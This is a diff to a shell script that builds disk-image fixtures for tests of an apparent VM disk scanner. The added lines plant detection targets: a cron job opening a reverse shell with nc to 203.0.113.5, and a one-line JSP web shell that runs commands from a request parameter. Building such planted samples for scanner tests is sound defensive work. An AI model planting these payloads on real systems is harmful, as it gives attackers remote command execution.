@@ -22,6 +22,9 @@
 #   ext4-changed.img    ext4.img changed by debugfs (the content chain-mid holds), with
 #                       nanosecond and post-2038 (epoch bits) timestamps set by debugfs sif
 #   overlay-raw.qcow2   qcow2 overlay on the raw ext4.img, holding ext4-changed.img's changes
+#   scan.img scan.qcow2 scan-overlay.qcow2 scan-p1.img scan-p2.img
+#                       GPT disk with planted artefacts for the scan tests (see gentree -kind scan);
+#                       the overlay adds one in its own layer only
 set -euo pipefail
 export LC_ALL=C
 here=$(cd "$(dirname "$0")" && pwd)
@@ -160,6 +163,39 @@ rm -f chain-src.img
 log "overlay on a raw base"
 qemu-img create -q -f qcow2 -b ext4.img -F raw overlay-raw.qcow2
 qio overlay-raw.qcow2 qcow2
+
+log "scan fixtures"
+# p1: artefacts in nested directories, a sparse file, a big file (straddling
+# a scan block boundary, at its end); p2: a planted cron job. scan-overlay
+# holds one more artefact in its overlay layer only.
+gentree scan tree-scan
+cp -a tree2 tree-scan2
+mkdir -p tree-scan2/etc/cron.d
+printf '* * * * * root nc -e /bin/sh 203.0.113.5 4444 # VMSCOPE_MARKER_P2\n' > tree-scan2/etc/cron.d/job
+mk scan-p1.img 160M tree-scan -L scanroot -t ext4 -b 4096
+mk scan-p2.img 32M tree-scan2 -L scandata -t ext4
+gptdisk() { # gptdisk OUT P1 P2
+  rm -f "$1"
+  truncate -s 200M "$1"
+  sfdisk -q "$1" <<'PT'
+label: gpt
+label-id: 4B1D2C3E-0F1A-4B5C-8D7E-9F0A1B2C3D4E
+start=2048, size=327680, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="root"
+start=329728, size=65536, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="data"
+PT
+  dd if="$2" of="$1" bs=1M seek=1 conv=notrunc,sparse status=none
+  dd if="$3" of="$1" bs=512 seek=329728 conv=notrunc,sparse status=none
+}
+gptdisk scan.img scan-p1.img scan-p2.img
+qemu-img convert -f raw -O qcow2 scan.img scan.qcow2
+cp --sparse=always scan-p1.img scan-p1-changed.img
+printf '<%%@ page import="java.io.*" %%><%% Runtime.getRuntime().exec(request.getParameter("c")); // VMSCOPE_MARKER_OVERLAY %%>\n' > overlay-shell.jsp
+debugfs -w -R 'write overlay-shell.jsp /var/www/html/cmd.jsp' scan-p1-changed.img >/dev/null 2>&1
+gptdisk scan-changed.img scan-p1-changed.img scan-p2.img
+(cd "$repo" && go run ./testdata/blkdiff "$cache/scan.img" "$cache/scan-changed.img" "$cache/chunks2") > writes.txt
+qemu-img create -q -f qcow2 -b scan.qcow2 -F qcow2 scan-overlay.qcow2
+qio scan-overlay.qcow2 qcow2
+rm -rf scan-p1-changed.img scan-changed.img overlay-shell.jsp chunks2
 
 rm -rf frag-source.bin new-file.txt p2.img fat.img chunks writes.txt
 chmod a-w *.img *.qcow2
